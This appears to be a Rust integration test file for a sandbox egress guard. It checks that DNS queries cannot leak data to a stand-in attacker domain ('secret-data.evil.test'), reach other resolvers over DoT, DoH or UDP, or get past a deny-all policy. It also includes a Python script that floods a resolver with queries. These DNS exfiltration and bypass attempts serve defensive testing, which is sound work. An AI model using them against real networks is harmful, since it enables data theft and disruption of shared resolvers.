//! Names are no way out either (N03): what is not allowed is never asked for upstream, texts carry nothing, other resolvers
//! are not there, and questions have a rate.

#![allow(clippy::unwrap_used, reason = "tests")]

use std::time::Instant;

use atoll_tests::connection_probes::{
    came_to_nothing, egress_log, guarded, logged, reach, reach_in_turn, try_one,
};
use atoll_tests::internet::{GOOD, NAME, PUBLIC, RESOLVERS, Record, Say, names::kind};
use atoll_tests::{Options, Value, World, json, run_with};

fn run(body: impl AsyncFnOnce(&World) + Send) {
    run_with(Options::debian(), body);
}

/// Other ways to resolve names: public resolvers by every transport, the host's own, and the gate on other ports.
fn other_resolvers(name: &str) -> Vec<Value> {
    let mut ways = Vec::new();
    for server in [RESOLVERS[0].to_string(), RESOLVERS[1].to_string(), PUBLIC.to_owned()] {
        ways.push(json!({ "do": "dns", "server": server, "name": name }));
        ways.push(json!({ "do": "dns", "server": server, "name": name, "tcp": true }));
        ways.push(json!({ "do": "tls", "host": server, "port": 853, "sni": "dns.test", "send": "hex:0000", "quiet": 1 }));
        let ask =
            format!("GET /dns-query?dns={name} HTTP/1.1\r\nHost: dns.test\r\nConnection: close\r\n\r\n");
        ways.push(json!({ "do": "tls", "host": server, "port": 443, "sni": "dns.test", "send": ask }));
        ways.push(json!({ "do": "udp", "host": server, "port": 443, "send": name }));
    }
    ways
}

#[test]
fn n03_with_a_list_only_listed_zones_are_asked_for_and_only_for_addresses() {
    run(async |w| {
        let client = w.tenant("acme").await;
        let texts = [Record::Txt("stolen".into()), Record::A(GOOD)];
        w.internet.says("good.test", Say::records(texts));
        let open = guarded(w, &client, json!("allow-all")).await;
        let control =
            try_one(&client, &open, json!({ "do": "dns", "name": "good.test", "kind": "TXT" })).await;
        assert_eq!(control["answers"][0]["data"], hex::encode(b"\x06stolen"), "the control: {control}");
        for (way, result) in other_resolvers("evil.test")
            .iter()
            .zip(reach(&client, &open, json!(other_resolvers("evil.test"))).await)
        {
            assert!(!came_to_nothing(&result) || way["port"] == 853, "the control: {way}: {result}");
        }
        w.internet.forget();
        let id = guarded(w, &client, json!({ "mode": "custom", "allow_domains": ["good.test"] })).await;
        let ask = |name: &str, kind: &str| json!({ "do": "dns", "name": name, "kind": kind });
        let long = format!("{}.{}.{}.evil.test", "a".repeat(63), "b".repeat(63), "c".repeat(63));
        let tasks = json!([
            ask("secret-data.evil.test", "A"),
            ask("secret-data.evil.test", "TXT"),
            ask("secret-data.good.test", "A"),
            ask(&long, "A"),
            ask("secret-data.good.test.evil.test", "A"),
            ask("secret-data\u{0}.good.test", "A"),
            ask("secret-data", "A"),
            { "do": "dns", "name": "secret-data.evil.test", "tcp": true },
            { "do": "dns", "name": "good.test", "more": ["secret-data.evil.test"] },
            { "do": "dns", "name": "secret-data.evil.test", "flags": 0x0000 },
            { "do": "dns", "name": "secret-data.evil.test", "flags": 0x2800 },
        ]);
        for (task, result) in tasks.as_array().unwrap().iter().zip(reach(&client, &id, tasks.clone()).await) {
            let addresses = result["addresses"].as_array().map_or(0, Vec::len);
            assert!(addresses == 0 && result["rcode"] != 0, "{task}: {result}");
        }
        // Of a listed name nothing but addresses; and what is no address is not asked for.
        let kinds =
            ["TXT", "NULL", "NS", "ANY", "HTTPS", "SVCB", "AAAA", "AXFR"].map(|kind| ask("good.test", kind));
        let raws = [
            "",
            "00",
            "ffffffffffffffffffffffff",
            "000101000001000000000000c00c00010001",
            "00018180000100010000000004676f6f640474657374000001000100",
        ];
        let raws = raws.map(|raw| json!({ "do": "dns", "raw": raw, "limit": 0.5 }));
        let all: Vec<Value> = kinds.into_iter().chain(raws).collect();
        for (task, result) in all.iter().zip(reach(&client, &id, json!(all)).await) {
            assert_eq!(result["answers"].as_array().map_or(0, Vec::len), 0, "{task}: {result}");
        }
        for tcp in [false, true] {
            let result =
                try_one(&client, &id, json!({ "do": "dns", "name": "GoOd.TeSt.", "tcp": tcp })).await;
            assert_eq!(result["addresses"], json!([GOOD]), "{result}");
            let ttl = result["answers"][0]["ttl"].as_u64().unwrap();
            assert!((1..=300).contains(&ttl), "{result}");
        }
        let leaked: Vec<_> = w
            .internet
            .questions()
            .into_iter()
            .filter(|q| q.name != "good.test" || q.kind != kind::A)
            .collect();
        assert!(leaked.is_empty(), "went out: {leaked:?}");
        let ways = other_resolvers("secret-data.good.test");
        for (way, result) in ways.iter().zip(reach(&client, &id, json!(ways)).await) {
            assert!(came_to_nothing(&result), "{way}: {result}");
        }
        for resolver in RESOLVERS {
            w.internet.untouched(resolver, "other resolvers");
        }
        w.internet.unharmed("names as a way out");
        logged(&client, &id, json!({ "what": "dns", "verdict": "refused", "name": "secret-data.evil.test" }))
            .await;
        logged(
            &client,
            &id,
            json!({ "what": "flow", "verdict": "refused", "address": RESOLVERS[0], "port": 53 }),
        )
        .await;
    });
}

#[test]
fn n03_without_internet_there_is_no_dns_by_any_way() {
    run(async |w| {
        let client = w.tenant("acme").await;
        let open = guarded(w, &client, json!("allow-all")).await;
        let control = try_one(&client, &open, json!({ "do": "dns", "name": NAME })).await;
        assert_eq!(control["addresses"], json!([PUBLIC]), "the control: {control}");
        for policy in [json!("deny-all"), json!({ "mode": "custom", "allow_cidrs": ["198.51.100.20/32"] })] {
            let id = guarded(w, &client, policy.clone()).await;
            w.internet.forget();
            let mut ways = other_resolvers("secret-data.test");
            ways.push(json!({ "do": "dns", "name": NAME }));
            ways.push(json!({ "do": "dns", "name": NAME, "tcp": true }));
            ways.push(json!({ "do": "dns", "name": "secret-data.test", "kind": "TXT" }));
            ways.push(json!({ "do": "tcp", "host": "169.254.0.1", "port": 3129, "send": "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n" }));
            for (way, result) in ways.iter().zip(reach(&client, &id, json!(ways)).await) {
                let is_refused = result["rcode"].as_u64().is_some_and(|code| code != 0);
                assert!(came_to_nothing(&result) || is_refused, "{policy}: {way}: {result}");
            }
            assert!(w.internet.questions().is_empty(), "{policy}: {:?}", w.internet.questions());
            for resolver in RESOLVERS {
                w.internet.untouched(resolver, "no internet");
            }
            w.internet.unharmed("no internet");
        }
    });
}

/// Asks for new names below an allowed zone as quickly as it can, from several sockets, for some seconds.
const FLOOD: &str = r#"
import os, socket, struct, sys, threading, time
end = time.time() + float(sys.argv[1])
sent = [0]
def ask():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.connect(("169.254.0.1", 53))
    while time.time() < end:
        label = os.urandom(12).hex().encode()
        q = os.urandom(2) + bytes.fromhex("01000001000000000000") + bytes([len(label)]) + label + b"\4good\4test\0\0\1\0\1"
        try: s.send(q); sent[0] += 1
        except OSError: time.sleep(0.001)
        try:
            while True: s.recv(4096)
        except OSError: pass
threads = [threading.Thread(target=ask) for _ in range(4)]
[t.start() for t in threads]; [t.join() for t in threads]
print(sent[0])
"#;

#[test]
fn n03_questions_have_a_rate_and_a_flood_of_them_hurts_nobody_else() {
    run(async |w| {
        let client = w.tenant("acme").await;
        let other = w.tenant("other").await;
        w.internet.says("*.good.test", Say::a([GOOD]));
        let id = guarded(w, &client, json!({ "mode": "custom", "allow_domains": ["*.good.test"] })).await;
        let calm = guarded(w, &other, json!({ "mode": "custom", "allow_domains": ["*.good.test"] })).await;
        let witness = w.witness().await;
        w.internet.forget();
        let began = Instant::now();
        let flood = client.exec(&id, json!({ "argv": ["python3", "-c", FLOOD, "3"], "timeout_s": 100 }));
        let asked_beside = async {
            tokio::time::sleep(std::time::Duration::from_millis(700)).await;
            let tasks: Vec<Value> =
                (0..5).map(|n| json!({ "do": "dns", "name": format!("calm{n}.good.test") })).collect();
            reach_in_turn(&other, &calm, json!(tasks)).await
        };
        let (flood, beside) = tokio::join!(flood, asked_beside);
        let seconds = began.elapsed().as_secs_f64();
        let sent: f64 = flood.text().parse().unwrap();
        for result in &beside {
            assert!(result["addresses"] == json!([GOOD]) && result["took"].as_f64() < Some(5.0), "{result}");
        }
        let passed = w.internet.questions_with(".good.test").len() as f64;
        assert!(sent > 2_000.0, "the flood was none: {sent}");
        assert!(
            passed < sent / 2.0 && passed / seconds < 500.0,
            "{passed} of {sent} questions passed in {seconds} s"
        );
        // The log is bounded, too.
        let log = egress_log(&client, &id).await;
        assert!(!log.is_empty() && log.len() <= 1_000, "{}", log.len());
        witness.verify().await;
    });
}
